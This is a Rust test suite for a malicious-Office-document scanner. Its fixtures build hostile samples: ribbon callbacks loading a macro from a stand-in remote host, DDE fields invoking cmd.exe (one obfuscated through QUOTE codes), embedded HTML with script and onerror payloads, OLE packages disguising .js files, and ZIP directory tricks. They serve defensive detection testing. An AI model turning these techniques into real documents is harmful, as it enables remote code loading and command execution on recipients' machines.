//! What is brought along beside the text: ribbons, films, wrapped files, and entries that no directory names.

use std::io::Cursor;

use crate::checksums::Checksums;
use crate::sample::{DocumentBuilder, Entry, compound_file, wrapped_file};
use crate::{FindingKind, Kind, Limits, Refusal, Report, Verdict, check, inspect};

const MAIN: &str = "word/document.xml";

fn docx() -> DocumentBuilder {
    DocumentBuilder::new(Kind::Docx)
}

fn report(document: &DocumentBuilder) -> Report {
    inspect(Cursor::new(document.build()), &Limits::default()).unwrap()
}

fn finds(document: &DocumentBuilder, kind: FindingKind) -> bool {
    report(document).findings.iter().any(|finding| finding.kind == kind)
}

fn refusal(bytes: &[u8]) -> Option<Refusal> {
    check(Cursor::new(bytes), &Checksums::default(), "a.docx", &Limits::default()).err()
}

#[test]
fn a_ribbon_calls_no_macro_of_another_machine() {
    let ribbon = |xml: &str| DocumentBuilder::new(Kind::Xlsx).part("customUI/customUI.xml", xml);
    for year in ["2006/01", "2009/07"] {
        let ribbon = |calls: &str| {
            let space = format!("http://schemas.microsoft.com/office/{year}/customui");
            ribbon(&format!(r#"<customUI xmlns="{space}" {calls}><ribbon/></customUI>"#))
        };
        let far = ribbon(r#"onLoad="https://e.example/x.xlam!Go""#);
        assert!(finds(&far, FindingKind::RemoteTemplate), "{:?}", report(&far));
        assert_eq!(report(&far).verdict(), Verdict::Infected);
        assert!(finds(&ribbon(r#"onLoad="&#92;&#92;e.example&#92;x.xlam!Go""#), FindingKind::RemoteTemplate));
        assert_eq!(report(&ribbon(r#"onLoad="Go""#)).verdict(), Verdict::Clean);
    }
    let button = ribbon(
        r#"<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui"><button onAction="https://e.example/x.xlam!Go"/></customUI>"#,
    );
    assert!(finds(&button, FindingKind::RemoteTemplate));
}

#[test]
fn a_page_that_shows_a_film_is_looked_into() {
    let film = |page: &str| {
        let page = page.replace('&', "&amp;").replace('<', "&lt;").replace('"', "&quot;");
        let space = "http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing";
        docx().body(&format!(r#"<w:p><wp15:webVideoPr xmlns:wp15="{space}" embeddedHtml="{page}" h="1" w="1"/></w:p>"#))
    };
    let shown = film(r#"<iframe src="https://www.youtube.com/embed/x" width="1"></iframe>"#);
    assert_eq!(report(&shown).verdict(), Verdict::Clean, "{:?}", report(&shown));
    for acts in ["<script>run()</script>", r#"<img src=x onerror="run()">"#, r#"<img src="//server/share/x.png">"#] {
        assert_ne!(report(&film(acts)).verdict(), Verdict::Clean, "{acts}");
    }
}

#[test]
fn a_field_in_one_element_works_out_another_as_any_does() {
    let around = |inner: &str, rest: &str| {
        docx().body(&format!(
            r#"<w:p><w:fldChar w:fldCharType="begin"/>{inner}<w:instrText>{rest}</w:instrText><w:fldChar w:fldCharType="end"/></w:p>"#
        ))
    };
    let spelled = around(r#"<w:fldSimple w:instr=" QUOTE 68 68 "/>"#, "EAUTO c:\\cmd.exe");
    assert!(finds(&spelled, FindingKind::Dde), "{:?}", report(&spelled));
    let looked_up = around(r#"<w:fldSimple w:instr=" DOCPROPERTY a "/>"#, " c:\\cmd.exe");
    assert_ne!(report(&looked_up).verdict(), Verdict::Clean);
    assert_eq!(report(&docx().body(r#"<w:p><w:fldSimple w:instr="PAGE"/></w:p>"#)).verdict(), Verdict::Clean);
    assert!(finds(&docx().body(r#"<w:p><w:fldSimple w:instr="DDE cmd"/></w:p>"#), FindingKind::Dde));
}

/// The stream of a wrapped file whose third name is told to have so many bytes more, with what follows.
fn wrapped(more: u32, behind: &[u8]) -> DocumentBuilder {
    let mut native = b"\x02\0offer.txt\0C:\\offer.txt\0\0\0\x03\0".to_vec();
    native.extend((13 + more).to_le_bytes());
    native.extend(b"C:\\offer.txt\0\x04\0\0\0text");
    native.extend(behind);
    let stream = [u32::try_from(native.len()).unwrap().to_le_bytes().as_slice(), &native].concat();
    docx().embed("a.bin", compound_file(&[("\u{1}Ole10Native", &stream)]))
}

#[test]
fn a_wrapped_file_is_judged_by_all_its_names() {
    assert_eq!(report(&docx().embed("a.bin", wrapped_file("offer.txt", b"text"))).verdict(), Verdict::Clean);
    assert_eq!(report(&wrapped(0, b"")).verdict(), Verdict::Clean);
    let wide = |name: &str| {
        let units: Vec<u16> = name.encode_utf16().collect();
        let text: Vec<u8> = units.iter().flat_map(|unit| unit.to_le_bytes()).collect();
        [u32::try_from(units.len()).unwrap().to_le_bytes().as_slice(), &text].concat()
    };
    let names = |command: &str, label: &str, file: &str| [wide(command), wide(label), wide(file)].concat();
    assert_eq!(report(&wrapped(0, &names("C:\\a.txt", "a.txt", "C:\\a.txt"))).verdict(), Verdict::Clean);
    for names in
        [names("C:\\a.js", "a.txt", "a.txt"), names("a.txt", "a.js", "a.txt"), names("a.txt", "a.txt", "a.js\0")]
    {
        assert!(finds(&wrapped(0, &names), FindingKind::Executable));
    }
    // Where its bytes begin depends on who reads it.
    assert_eq!(report(&wrapped(8, b"")).verdict(), Verdict::Unscannable);
}

#[test]
fn what_is_taken_in_on_opening_is_read_as_what_it_is() {
    let chunk = |content_type: &str, content: &str| {
        let chunk = docx().part("word/chunk.dat", content).override_type("word/chunk.dat", content_type);
        chunk.relationship(MAIN, "aFChunk", "chunk.dat", false)
    };
    let object = r"{\rtf1{\object\objupdate{\*\objdata 010500000200000008000000}}}";
    for content_type in ["image/svg+xml", "application/xml", "application/octet-stream"] {
        assert_ne!(report(&chunk(content_type, object)).verdict(), Verdict::Clean, "{content_type}");
    }
    let page = r#"<?xml version="1.0"?><p><script>run()</script><br></p>"#;
    for content_type in ["application/xml", "application/octet-stream"] {
        assert_ne!(report(&chunk(content_type, page)).verdict(), Verdict::Clean, "{content_type}");
    }
    let spaced = docx().part("word/x.dat", "no known form").relationship(MAIN, "aFChunk", " /word/x.dat", false);
    assert_eq!(report(&spaced).verdict(), Verdict::Unscannable);
}

/// Takes the last record out of the directory, whose entry stays where it is.
fn without_last_record(mut bytes: Vec<u8>) -> Vec<u8> {
    let find = |bytes: &[u8], what: &[u8]| memchr::memmem::rfind(bytes, what).unwrap();
    let (record, end) = (find(&bytes, b"PK\x01\x02"), find(&bytes, b"PK\x05\x06"));
    bytes.drain(record..end);
    let number = |at: usize, bytes: &[u8]| u16::from_le_bytes([bytes[at], bytes[at + 1]]);
    for at in [record + 8, record + 10] {
        let count = number(at, &bytes) - 1;
        bytes[at..at + 2].copy_from_slice(&count.to_le_bytes());
    }
    let size = u32::from(number(record + 12, &bytes)) - u32::try_from(end - record).unwrap();
    bytes[record + 12..record + 16].copy_from_slice(&size.to_le_bytes());
    bytes
}

#[test]
fn no_entry_lies_beside_those_of_the_directory() {
    let whole = docx().entry(Entry::stored("word/hidden.xml", "<a/>")).build();
    assert!(refusal(&whole).is_none());
    assert!(matches!(refusal(&without_last_record(whole)), Some(Refusal::InvalidFile(crate::Flaw::EntryNotAsSaid))));
}

#[test]
fn a_file_has_one_directory() {
    let (one, other) = (docx().text("one").build(), docx().text("other").build());
    assert!(refusal(&[one.as_slice(), b"!"].concat()).is_none());
    let end = memchr::memmem::rfind(&one, b"PK\x05\x06").unwrap();
    let mut two = one.clone();
    two.extend(&other);
    two.push(b'!');
    let comment = u16::try_from(two.len() - end - 22).unwrap();
    two[end + 20..end + 22].copy_from_slice(&comment.to_le_bytes());
    assert!(refusal(&two).is_some());
}

#[test]
fn parts_of_one_name_have_the_same_bytes() {
    let types = "[Content_Types].xml";
    let document = docx();
    let twice = document.clone().entry(Entry::stored(types, "<Types/>"));
    assert!(refusal(&twice.build()).is_some());
}
